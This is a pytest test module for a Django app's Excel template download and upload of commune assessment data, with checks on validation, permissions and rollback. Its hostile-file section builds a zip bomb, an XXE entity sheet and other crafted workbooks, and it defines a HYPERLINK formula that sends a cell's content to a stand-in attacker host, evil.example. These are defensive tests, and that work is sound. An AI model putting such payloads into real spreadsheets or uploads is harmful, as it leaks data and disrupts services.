"""The Excel template of a district's year, its upload (checked per row, all or nothing) and who may use it."""

# The fixtures come from test_dashboards; pytest passes them by name, which ruff reads as a redefinition.
# ruff: noqa: F811

import io
import tracemalloc

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from pytest_django.asserts import assertContains, assertRedirects

from campaigns.dashboards import excel as excel_assessments
from campaigns.dashboards import forms as forms_dashboards
from campaigns.models import Assessment
from campaigns.tests.test_dashboards import (  # noqa: F401 - fixtures shared with the dashboard tests
    S,
    assess,
    communes,
    criteria,
    english,
    leader,
    make_commune,
    noivu,
    stranger,
)
from units.models import Kind, Role
from units.tests import xlsx_files

pytestmark = pytest.mark.django_db

ALL = [1] * 19
MB = 1024 * 1024
DAMAGED = "The Excel file is damaged or not laid out as the template; open it in Excel, save it again as .xlsx."
NONE = [0] * 19


def template_url(unit, year=2024):
    return reverse("dashboards:template", args=[unit.pk, year])


def upload_url(unit, year=2024):
    return reverse("dashboards:upload", args=[unit.pk, year])


def xlsx(rows, *, year=2024, name="assessments.xlsx") -> SimpleUploadedFile:
    """A file laid out as the template: title, year, hint, header on row 4, communes from row 5."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Đánh giá tiêu chí"])
    sheet.append(["Year", year])
    sheet.append(["1 = đạt"])
    sheet.append(["Code", "Commune", *[f"{n}. Tiêu chí {n}" for n in range(1, 20)], "Note"])
    for code, values, *note in rows:
        sheet.append([code, "", *values, *note])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def upload(client, unit, rows, **options):
    return client.post(upload_url(unit), {"file": xlsx(rows, **options)})


def saved() -> dict[str, tuple[str, int]]:
    return {a.unit.code: (a.status, a.criteria_met) for a in Assessment.objects.select_related("unit")}


# The template


def test_template_has_a_row_per_commune_still_to_submit_and_a_column_per_criterion(client, noivu, district, communes):
    client.force_login(noivu)

    response = client.get(template_url(district))

    workbook = load_workbook(io.BytesIO(response.content))
    sheet, instructions = workbook.worksheets
    lines = list(sheet.iter_rows(values_only=True))
    assert lines[1][:2] == ("Year", 2024)
    assert lines[3][0] == "Code" and lines[3][2] == "1. Quy hoạch" and lines[3][20] == "19. Quốc phòng và An ninh"
    assert lines[3][21] == "Note"
    rows = {line[0]: line for line in lines[4:]}
    assert set(rows) == {"01366", "01375", "01384"}  # submitted and approved communes are locked
    assert rows["01375"][2:21] == (1,) * 9 + (0,) * 10  # the draft's results, prefilled
    assert rows["01366"][2:21] == (None,) * 19
    text = " ".join(str(cell) for (cell,) in instructions.iter_rows(values_only=True))
    assert "Xã Ngọc Đào" in text and "Xã Trường Hà" in text


def test_template_round_trip_saves_every_filled_commune_as_a_draft(client, noivu, district, communes):
    client.force_login(noivu)
    workbook = load_workbook(io.BytesIO(client.get(template_url(district)).content))
    sheet = workbook.active
    for row in sheet.iter_rows(min_row=5):
        if row[0].value == "01366":
            for cell in row[2:16]:
                cell.value = "x"
            row[21].value = "Nhập từ huyện"
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = client.post(upload_url(district), {"file": SimpleUploadedFile("filled.xlsx", buffer.getvalue())})

    assertRedirects(response, reverse("dashboards:status", args=[district.pk, 2024]))
    assert saved() == {
        "01366": ("draft", 14),
        "01375": ("draft", 9),
        "01384": ("returned", 13),
        "01438": ("submitted", 17),
        "01399": ("approved", 19),
    }
    new = Assessment.objects.get(unit__code="01366")
    assert new.note == "Nhập từ huyện"
    assert new.results.filter(achieved=True).count() == 14
    assert new.history.filter(history_user=noivu).exists()
    messages = [str(m) for m in response.wsgi_request._messages]
    assert messages == ["Saved 3 communes as drafts; each commune still submits its own year."]


def test_an_upload_updates_an_existing_draft_and_keeps_its_note(client, noivu, district, communes):
    client.force_login(noivu)
    draft = Assessment.objects.get(unit__code="01375")
    draft.note = "Ghi chú cũ"
    draft.save()

    upload(client, district, [("01375", ALL)])

    draft.refresh_from_db()
    assert (draft.status, draft.criteria_met, draft.note) == ("draft", 19, "Ghi chú cũ")
    assert draft.version > 1


def test_a_code_that_excel_turned_into_a_number_still_matches(client, noivu, district, communes):
    client.force_login(noivu)

    upload(client, district, [(1366, ALL)])

    assert saved()["01366"] == ("draft", 19)


def test_accepted_cell_values(client, noivu, district, communes):
    client.force_login(noivu)
    values = ["Đạt", "x", 1, "1", "X", "Không đạt", 0, "", None, "đạt", *NONE[:9]]

    upload(client, district, [("01366", values)])

    assert saved()["01366"] == ("draft", 6)


# Bad files save nothing


def test_one_bad_row_among_good_ones_saves_nothing_and_names_the_cell(client, noivu, district, communes):
    client.force_login(noivu)
    bad = ALL[:11] + ["maybe"] + ALL[12:]
    before = saved()

    response = upload(client, district, [("01366", ALL), ("01375", ALL), ("01384", bad)])

    assert response.status_code == 200
    assertContains(response, "Row 7, criterion 12: &#x27;maybe&#x27; is not 1 or 0.")
    assertContains(response, "Nothing was saved")
    assert saved() == before


def test_unknown_outside_and_duplicated_communes_are_reported(
    client, noivu, district, communes, make_unit, make_commune
):
    elsewhere = make_unit("Huyện Trùng Khánh", Kind.DISTRICT, district.parent, code="047")
    make_commune("Xã Đình Phong", "01600", parent=elsewhere)
    client.force_login(noivu)

    response = upload(client, district, [("99999", ALL), ("01600", ALL), ("01366", ALL), ("01366", NONE), ("", ALL)])

    errors = [error.message for error in response.context["row_errors"]]
    assert errors == [
        "Row 5: no commune has the code '99999'.",
        "Row 6: commune 01600 is not a commune of Huyện Hà Quảng in 2024.",
        "Row 8: commune 01366 already appears in row 7.",
        "Row 9: the commune code is missing.",
    ]
    assert not Assessment.objects.filter(unit__code="01366").exists()


def test_a_submitted_or_approved_assessment_is_locked(client, noivu, district, communes):
    client.force_login(noivu)

    response = upload(client, district, [("01366", ALL), ("01438", ALL), ("01399", NONE)])

    errors = [error.message for error in response.context["row_errors"]]
    assert errors == [
        "Row 6: the 2024 assessment of Xã Ngọc Đào is submitted and locked.",
        "Row 7: the 2024 assessment of Xã Trường Hà is approved and locked.",
    ]
    assert not Assessment.objects.filter(unit__code="01366").exists()
    assert saved()["01399"] == ("approved", 19)


def test_a_refusal_while_saving_rolls_back_the_rows_already_written(client, noivu, district, communes, monkeypatch):
    real = excel_assessments.save_assessment

    def refuse_the_second(assessment, **kwargs):
        if assessment.unit.code == "01375":
            raise ValidationError("This assessment was already submitted.")
        return real(assessment, **kwargs)

    monkeypatch.setattr(excel_assessments, "save_assessment", refuse_the_second)
    client.force_login(noivu)

    response = upload(client, district, [("01366", ALL), ("01375", ALL)])

    assertContains(response, "Row 6: Xã Đa Thông: This assessment was already submitted.")
    assert not Assessment.objects.filter(unit__code="01366").exists()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("notes.txt", b"Xa Truong Ha;1;1;1", "Upload an Excel file (.xlsx)."),
        ("fake.xlsx", b"not a zip at all", "This file is not a valid Excel workbook (.xlsx)."),
    ],
)
def test_a_file_that_is_not_xlsx_is_rejected(client, noivu, district, communes, name, content, message):
    client.force_login(noivu)

    response = client.post(upload_url(district), {"file": SimpleUploadedFile(name, content)})

    assert response.context["form"].errors["file"] == [message]
    assert Assessment.objects.count() == 4


def test_a_file_for_another_year_is_rejected(client, noivu, district, communes):
    client.force_login(noivu)

    response = upload(client, district, [("01366", ALL)], year=2023)

    assert response.context["form"].errors["file"] == ["This file is for 2023; this page imports 2024."]


def test_a_file_without_the_header_row_is_rejected(client, noivu, district, communes):
    workbook = Workbook()
    workbook.active.append(["Mã", "Tên"])
    workbook.active.append(["01366", "Xã Cần Yên"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    client.force_login(noivu)

    response = client.post(upload_url(district), {"file": SimpleUploadedFile("a.xlsx", buffer.getvalue())})

    assert "header row" in response.context["form"].errors["file"][0]


def test_a_file_too_large_is_rejected(client, noivu, district, communes, monkeypatch):
    monkeypatch.setattr(forms_dashboards, "MAX_UPLOAD_SIZE", 100)
    client.force_login(noivu)

    response = upload(client, district, [("01366", ALL)])

    assert "too large" in response.context["form"].errors["file"][0]
    assert not Assessment.objects.filter(unit__code="01366").exists()


# Who may use it


def test_leaders_may_not_download_or_upload(client, leader, district, communes):
    client.force_login(leader)

    assert client.get(template_url(district)).status_code == 403
    assert client.get(upload_url(district)).status_code == 403
    assert upload(client, district, [("01366", ALL)]).status_code == 403
    assert not Assessment.objects.filter(unit__code="01366").exists()


def test_a_commune_officer_may_not_upload(client, make_user, district, communes):
    client.force_login(make_user("xa.canyen", (communes["not_started"], Role.COMMUNE_OFFICER)))

    assert upload(client, district, [("01366", ALL)]).status_code == 403


def test_another_province_gets_not_found(client, stranger, district, communes):
    client.force_login(stranger)

    assert client.get(template_url(district)).status_code == 404
    assert upload(client, district, [("01366", ALL)]).status_code == 404


def test_province_staff_may_upload_for_a_district_below(client, make_user, province, district, communes):
    client.force_login(make_user("staff.caobang", (province, Role.PROVINCE_STAFF)))

    upload(client, district, [("01366", ALL)])

    assert saved()["01366"] == ("draft", 19)


def test_the_upload_page_links_the_template(client, noivu, district, communes):
    client.force_login(noivu)

    assertContains(client.get(upload_url(district)), template_url(district))


def test_status_is_unchanged_for_a_returned_assessment(client, noivu, district, communes, assess):
    client.force_login(noivu)

    upload(client, district, [("01384", ALL)])

    assert saved()["01384"] == (S.RETURNED, 19)


# Hostile files and formulas (issue 13): the reader is units.workbooks, shared with the units import


def assessment_file(**cells) -> dict[int, list]:
    """Rows laid out as the template: the year, the header with criteria 1–19, commune 01366 achieving all."""
    return {
        1: ["Year", 2024],
        2: ["Code", "Commune", *range(1, 20), "Note"],
        3: ["01366", cells.get("name", "Xã Cần Yên"), *ALL, cells.get("note", "")],
    }


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return xlsx_files.package(xlsx_files.sheet(assessment_file(note=xlsx_files.Shared(0))), bomb_size=200 * MB)


def test_a_zip_bomb_is_refused_without_inflating_it(client, noivu, district, communes, bomb):
    client.force_login(noivu)
    client.get(upload_url(district))  # the first request loads templates: not the upload's cost

    tracemalloc.start()
    try:
        response = client.post(upload_url(district), {"file": SimpleUploadedFile("a.xlsx", bomb)})
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert peak < 100 * MB
    assert response.context["form"].errors["file"] == [
        "The Excel file is too large once unpacked (at most 50 MB in 200 parts); split it into smaller files."
    ]
    assert not Assessment.objects.filter(unit__code="01366").exists()


@pytest.mark.parametrize(
    ("xml", "strings", "message"),
    [
        (xlsx_files.xxe_sheet(assessment_file(note="&secret;")), None, DAMAGED),
        (xlsx_files.sheet(assessment_file(note=xlsx_files.Shared(3))), xlsx_files.shared_strings("Ghi chú"), DAMAGED),
        (
            xlsx_files.sheet({**assessment_file(), 10_000_000: ["01375", "", *ALL]}),
            None,
            "The file has more than 3,000 rows; split it into smaller files.",
        ),
        (
            xlsx_files.sheet(assessment_file(note="Ghi chú " * 200)),
            None,
            "Cell V3 holds 1,600 characters; a cell may hold at most 1,000.",
        ),
    ],
    ids=["xxe-entity", "missing-shared-string", "row-at-ten-million", "overlong-cell"],
)
def test_a_hostile_file_is_refused_next_to_the_field_and_saves_nothing(
    client, noivu, district, communes, xml, strings, message
):
    before = saved()
    client.force_login(noivu)

    response = client.post(
        upload_url(district), {"file": SimpleUploadedFile("a.xlsx", xlsx_files.package(xml, strings))}
    )

    assert response.context["form"].errors["file"] == [message]
    assert saved() == before


def test_a_malformed_sheet_is_refused_as_damaged(client, noivu, district, communes):
    content = xlsx_files.package(xlsx_files.sheet(assessment_file())[:-30])
    client.force_login(noivu)

    response = client.post(upload_url(district), {"file": SimpleUploadedFile("a.xlsx", content)})

    assert response.context["form"].errors["file"] == [DAMAGED]


FORMULA = '=HYPERLINK("http://evil.example/"&B7,"Xem minh chứng")'


def test_a_note_that_looks_like_a_formula_is_exported_as_text_and_uploads_back_unchanged(
    client, noivu, district, communes
):
    Assessment.objects.filter(unit__code="01375").update(note=FORMULA)
    client.force_login(noivu)

    content = client.get(template_url(district)).content

    sheet = load_workbook(io.BytesIO(content)).active
    note = next(row[21] for row in sheet.iter_rows(min_row=5) if row[0].value == "01375")
    assert (note.data_type, note.value) == ("s", FORMULA)
    response = client.post(upload_url(district), {"file": SimpleUploadedFile("same.xlsx", content)})
    assertRedirects(response, reverse("dashboards:status", args=[district.pk, 2024]))
    assert Assessment.objects.get(unit__code="01375").note == FORMULA
    assert saved()["01375"] == ("draft", 9)


def test_a_commune_name_that_looks_like_a_formula_is_exported_as_text_in_the_matrix(client, noivu, district, communes):
    communes["approved"].name = "=SUM(1,1)"
    communes["approved"].save()
    client.force_login(noivu)

    content = client.get(reverse("dashboards:matrix-xlsx", args=[district.pk, 2024])).content

    cells = [row[1] for row in load_workbook(io.BytesIO(content)).active.iter_rows() if row[0].value == "01399"]
    assert [(cell.data_type, cell.value) for cell in cells] == [("s", "=SUM(1,1)")]
